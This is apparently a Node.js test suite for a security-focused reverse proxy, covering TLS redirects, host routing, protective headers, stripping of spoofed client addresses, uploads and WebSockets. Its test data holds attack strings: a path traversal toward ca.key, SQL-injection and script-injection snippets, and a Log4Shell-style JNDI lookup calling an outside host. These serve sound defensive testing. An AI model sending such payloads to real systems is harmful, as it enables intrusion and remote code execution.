import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { request as plainRequest } from 'node:http';
import { request } from 'node:https';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { until } from '../../../tests/support/until.mjs';
import { startEdge } from './edge.mjs';
import { HOSTS } from '../support/hosts.mjs';
import { ask, call } from '../support/client.mjs';

let edge;
before(async () => (edge = await startEdge()));
after(() => edge?.stop());

const last = (surface) => edge.upstreams[surface].seen.at(-1);

function plain(host, path) {
  return new Promise((done, fail) => {
    const outgoing = plainRequest({ host: '127.0.0.1', port: edge.http, path, headers: { host, 'user-agent': 'x' } }, (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk));
      response.on('end', () => done({ status: response.statusCode, headers: response.headers, text }));
    });
    outgoing.on('error', fail);
    outgoing.end();
  });
}

test('port 80 sends to the same address over TLS, and has only the answers for a certificate', async () => {
  for (const host of Object.values(HOSTS)) {
    const { status, headers } = await plain(host, '/k7-werk?a=b');
    assert.deepEqual([status, headers.location], [301, `https://${host}/k7-werk?a=b`]);
  }
  assert.equal((await plain('evil.example', '/')).status, 421);
  mkdirSync(join(edge.directory, 'acme/.well-known/acme-challenge'), { recursive: true });
  writeFileSync(join(edge.directory, 'acme/.well-known/acme-challenge/Ab_1-x'), 'Ab_1-x.thumbprint');
  assert.equal((await plain(HOSTS.reporter, '/.well-known/acme-challenge/Ab_1-x')).text, 'Ab_1-x.thumbprint');
  assert.equal((await plain(HOSTS.reporter, '/.well-known/acme-challenge/../../../ca.key')).status, 301);
  assert.equal((await plain(HOSTS.reporter, '/.well-known/acme-challenge/none')).status, 404);
});

test('each name leads to its own surface and to no other', async () => {
  for (const [surface, host] of Object.entries(HOSTS)) {
    for (const spelled of [host, host.toUpperCase(), `${host}:443`]) {
      const { length } = edge.upstreams[surface].seen;
      assert.equal((await ask(edge, { surface, headers: { host: spelled } })).status, 200);
      assert.equal(edge.upstreams[surface].seen.length, length + 1);
      assert.equal(last(surface).headers.host, host);
    }
  }
  for (const host of ['evil.example', '127.0.0.1', `${HOSTS.reporter}.evil.example`, `x.${HOSTS.reporter}`]) {
    assert.equal((await ask(edge, { headers: { host } })).status, 421, host);
  }
});

test('every answer of the edge itself carries the headers of protection, and none says what runs here', async () => {
  const answers = {
    refused: await call(edge, { id: '<script>' }),
    spelling: await ask(edge, { path: '/%61' }),
    host: await ask(edge, { headers: { host: 'evil.example' } }),
    missing: await ask(edge, { path: '/.well-known/acme-challenge/none' }),
    passed: await ask(edge, {}),
  };
  await edge.upstreams.reporter.stop();
  answers.away = await ask(edge, {});
  await edge.upstreams.reporter.again();
  assert.equal(answers.away.status, 502);
  for (const [name, { headers, text }] of Object.entries(answers)) {
    assert.match(headers['strict-transport-security'], /^max-age=63072000/, name);
    assert.equal(headers['x-content-type-options'], 'nosniff', name);
    assert.equal(headers['x-frame-options'], 'DENY', name);
    assert.equal(headers['referrer-policy'], 'no-referrer', name);
    assert.match(headers['content-security-policy'], /default-src 'none'/, name);
    assert.equal(headers['cache-control'], 'no-store', name);
    assert.equal(headers.server, undefined, name);
    assert.doesNotMatch(text, /nginx\/|haproxy|modsecurity/i, name);
  }
});

test('staff’s address is handed on once, a reporter’s never, and nobody’s own word on it', async () => {
  const lies = {
    'x-forwarded-for': '198.51.100.7',
    'x-real-ip': '198.51.100.7',
    forwarded: 'for=198.51.100.7',
    'x-forwarded-host': 'evil.example',
  };
  for (const surface of ['admin', 'reporter']) {
    await ask(edge, { surface, from: '127.9.8.7', headers: lies });
    assert.doesNotMatch(last(surface).raw.join(' '), /198\.51|evil/);
  }
  assert.equal(last('admin').headers['x-forwarded-for'], '127.9.8.7');
  assert.doesNotMatch(JSON.stringify(last('reporter').raw), /127\.9\.8\.7/);
});

test('a reporter’s address becomes one that is none: the same for the next request, another for another, another with each start', async () => {
  const told = async (from, on = edge) => {
    await ask(on, { from });
    return on.upstreams.reporter.seen.at(-1).headers['x-forwarded-for'];
  };
  const first = await told('127.9.8.7');
  assert.match(first, /^fd[0-9a-f]{2}(:[0-9a-f]{4}){3}::1$/);
  assert.equal(await told('127.9.8.7'), first);
  assert.notEqual(await told('127.9.8.8'), first);
  const other = await startEdge();
  try {
    assert.notEqual(await told('127.9.8.7', other), first);
  } finally {
    await other.stop();
  }
});

/** Starts sending a piece of a file. The caller writes and ends the request. */
function part(surface, size, headers = {}) {
  const host = HOSTS[surface];
  const sent = {
    host,
    'user-agent': 'x',
    'content-type': 'application/octet-stream',
    'content-length': size,
    'x-upload-secret': 'Ab-_9',
    'x-voicase': '1',
    ...headers,
  };
  const path = `/up/${randomUUID()}/104857600`;
  const outgoing = request({
    host: '127.0.0.1',
    port: edge.https,
    servername: host,
    ca: edge.authority.certificate,
    method: 'PUT',
    path,
    headers: sent,
    agent: false,
  });
  const status = new Promise((done, fail) => {
    outgoing.on('response', (response) => done(response.resume().statusCode));
    outgoing.on('error', fail);
  });
  return { outgoing, status };
}

for (const surface of ['reporter', 'admin']) {
  test(`a part of eight mebibytes streams to the ${surface}’s server while it arrives`, async () => {
    const { seen } = edge.upstreams[surface];
    const { length } = seen;
    const { outgoing, status } = part(surface, 8 << 20);
    // In every other place, this text would be refused as an attack.
    outgoing.write("' OR 1=1 UNION SELECT 1 -- <script>alert(1)</script>".padEnd(2 << 20));
    await until('the first bytes', () => seen[length]?.bytes >= 1 << 20);
    outgoing.end(Buffer.alloc(6 << 20));
    assert.equal(await status, 200);
    assert.deepEqual([seen[length].bytes, seen[length].headers['x-upload-secret']], [8 << 20, 'Ab-_9']);
  });
}

test('of a part’s headers only those that the server asks for arrive, and a larger part does not', async () => {
  const { outgoing, status } = part('reporter', 3, {
    'user-agent': '${jndi:ldap://203.0.113.9/a}',
    cookie: "' OR 1=1 --",
    'x-upload-secret': '<script>',
  });
  outgoing.end('abc');
  assert.equal(await status, 200);
  assert.deepEqual(
    Object.keys(last('reporter').headers).sort(),
    ['connection', 'content-length', 'content-type', 'host', 'x-forwarded-for'].filter((name) => name in last('reporter').headers),
  );
  const large = part('reporter', (8 << 20) + 1);
  large.outgoing.flushHeaders();
  assert.equal(await large.status, 413);
  large.outgoing.destroy();
});

test('a long download arrives whole', async () => {
  const { status, text } = await ask(edge, { surface: 'admin', path: '/files/long' });
  assert.deepEqual([status, text.length], [200, 32 << 20]);
});

test('a WebSocket of staff stays open both ways; the reporters’ host has none', async () => {
  const upgrade = (surface) =>
    new Promise((done, fail) => {
      const host = HOSTS[surface];
      const headers = {
        host,
        'user-agent': 'x',
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-version': '13',
        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
        'sec-websocket-protocol': 'graphql-transport-ws',
        origin: `https://${host}`,
      };
      const outgoing = request({
        host: '127.0.0.1',
        port: edge.https,
        servername: host,
        ca: edge.authority.certificate,
        path: '/graphql/live',
        headers,
        agent: false,
      });
      outgoing.on('upgrade', (response, socket) => done({ status: response.statusCode, socket }));
      outgoing.on('response', (response) => done({ status: response.resume().statusCode }));
      outgoing.on('error', fail);
      outgoing.end();
    });
  const { status, socket } = await upgrade('admin');
  assert.equal(status, 101);
  for (const words of ['first', "second ' OR 1=1 --"]) {
    const echoed = new Promise((done) => socket.once('data', (data) => done(data.toString())));
    socket.write(words);
    assert.equal(await echoed, words);
  }
  socket.destroy();
  assert.notEqual((await upgrade('reporter')).status, 101);
});
